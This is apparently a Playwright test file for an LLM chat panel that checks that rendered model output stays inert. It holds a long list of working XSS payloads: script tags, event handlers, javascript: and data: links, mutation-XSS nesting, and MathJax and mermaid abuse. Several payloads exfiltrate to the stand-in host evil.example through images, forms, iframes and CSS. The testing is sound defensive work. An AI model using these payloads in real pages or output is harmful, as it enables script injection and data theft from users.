"""What a model says is data: nothing of it runs, navigates, submits, or asks anything of anybody."""

from __future__ import annotations

from playwright.async_api import Page, expect

from .panel import Panel
from .visitor import Visitor

RUN = "window.pwned=1"
EVIL = "http://evil.example"
PAYLOADS = (
    f"<script>{RUN}</script>",
    f'<img src="x" onerror="{RUN}">',
    f"<svg onload='{RUN}'><script>{RUN}</script><a xlink:href='javascript:{RUN}'><text>svg link</text></a></svg>",
    f"[a link](javascript:{RUN}) and <a href='JaVa&#10;Script:{RUN}'>another</a> and [third](vbscript:{RUN})",
    f"<a href='data:text/html,<script>{RUN}</script>'>a data link</a> [one more](data:text/html;base64,PHNjcmlwdD4=)",
    f"<form action='{EVIL}/form'><input name='q' value='secret' autofocus onfocus='{RUN}'><button>Send</button></form>",
    f"<iframe src='{EVIL}/frame'></iframe><iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<style>@import '{EVIL}/x.css'; body {{ display: none }}</style><link rel='stylesheet' href='{EVIL}/y.css'>",
    f"<div style='position:fixed;inset:0;background:url({EVIL}/bg.png)'>a cover</div>",
    "<button data-commandlinker-command='llmhub:new-chat' data-commandlinker-args='{}'>A command</button>"
    "<a href='#' data-commandlinker-command='llmhub:new-chat'>A command link</a>",
    f"![a picture]({EVIL}/leak.png?q=secret) <img src='{EVIL}/leak2.png' srcset='{EVIL}/leak3.png 2x' alt='two'>",
    f"<picture><source srcset='{EVIL}/p.png'></picture><video src='{EVIL}/v.mp4' poster='{EVIL}/v.png' autoplay></video>",
    f"<meta http-equiv='refresh' content='0;url={EVIL}/'><base href='{EVIL}/'>",
    f"<object data='{EVIL}/o'></object><embed src='{EVIL}/e'>",
    f"<details open ontoggle='{RUN}'><summary>open</summary></details><marquee onstart='{RUN}'>m</marquee><body onload='{RUN}'>",
    f"<math><mtext><table><mglyph><style><img src=x onerror='{RUN}'></style></mglyph></table></mtext></math>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'></noscript>",
    f"$\\href{{javascript:{RUN}}}{{x}}$ and $$\\style{{background:url({EVIL}/m.png)}}{{y}} \\unicode{{x41}}$$",
    "$\\require{html}\\cssId{jp-top-panel}{a}\\class{jp-Dialog}{b}$ <a id='jp-main-dock-panel' name='pwned'>id</a>",
    f'```js"><img src=x onerror={RUN}>\n<script>{RUN}</script>\n```',
    f"> ```mermaid\n> graph TD; A[\"<img src='{EVIL}/mm.png' onerror='{RUN}'>\"]; click A \"javascript:{RUN}\"\n> ```",
    f"| <img src=x onerror={RUN}> | [x](javascript:{RUN}) |\n|---|---|\n| <iframe src='{EVIL}/t'></iframe> | ![t]({EVIL}/t.png) |",
    f"[ref]\n\n[ref]: javascript:{RUN}\n\n<{EVIL}/auto> <javascript:{RUN}>",
)
CLICK = """root => {
  for (const each of root.querySelectorAll('.jp-llmhub-markdown :is(a, mjx-container *, summary, input)')) {
    if (!/^https?:/.test(each.href ?? '')) each.dispatchEvent(new MouseEvent('click', {bubbles: true, cancelable: true}));
  }
}"""
OURS = ".jp-llmhub-load, .jp-llmhub-file-link, .jp-llmhub-sort, .jp-llmhub-icon-button"
FORBIDDEN = (
    f"script, iframe, frame, object, embed, form, button:not({OURS}), select, textarea, style, link, meta, base, "
    "video, audio, source"
)
HANDLERS = "*[onerror], *[onload], *[onclick], *[onfocus], *[ontoggle], *[onstart], *[data-commandlinker-command]"


async def test_nothing_that_a_model_says_runs_or_leaves_this_machine(visitor: Visitor, panel: Panel):
    popups: list[Page] = []
    visitor.context.on("page", lambda page: popups.append(page))
    address = panel.page.url
    await panel.choose("lab/echo")
    for count, payload in enumerate(PAYLOADS, 1):
        await panel.send(f"{payload}\n\nend {count}")
        await expect(panel.answer).to_have_attribute("data-status", "complete")
        await is_inert(panel)
    conversation = await panel.conversation_id()

    # All of it in small pieces, so that tags and links stand half written for a while.
    await panel.send("\n\n".join((*PAYLOADS, "the end")), "lab/drip")
    await expect(panel.answer).to_contain_text("the end")
    await expect(panel.answer).to_have_attribute("data-status", "complete")
    await is_inert(panel)

    # The same in words of an error, in a title and in the list.
    await panel.get("new-chat").click()
    await panel.send(PAYLOADS[1], "lab/echo-key")
    await expect(panel.get("error")).to_be_visible()
    await panel.get("list-toggle").click()
    await expect(panel.get("conversation-item").first).to_be_visible()
    await is_inert(panel)

    assert panel.page.url == address
    assert not popups
    assert conversation != await panel.conversation_id()


async def is_inert(panel: Panel) -> None:
    """Click whatever in the answers could be clicked; then nothing has run, and nothing is there that could."""
    await panel.root.evaluate(CLICK)
    assert await panel.page.evaluate("window.pwned") is None
    said = panel.root.locator(".jp-llmhub-markdown .jp-llmhub-prose")
    assert await said.locator(FORBIDDEN).count() == 0
    assert await panel.root.locator(HANDLERS).count() == 0
    assert await said.locator("[id]:not(mjx-container *, svg *)").count() == 0
    links = await said.locator("a[href]").evaluate_all("links => links.map(link => [link.protocol, link.target, link.rel].join())")
    assert {link.removeprefix("http:").removeprefix("https:") for link in links} <= {
        ",_blank,noopener noreferrer",
        "mailto:,_blank,noopener noreferrer",
    }, links
    await expect(panel.get("title")).to_be_visible()


async def test_the_watch_over_the_network_sees_what_it_should(visitor: Visitor, panel: Panel):
    async with panel.page.expect_event("requestfailed"):
        await panel.page.evaluate(f"new Image().src = '{EVIL}/seen.png'")
    assert visitor.strays == [f"{EVIL}/seen.png"]
    visitor.strays.clear()
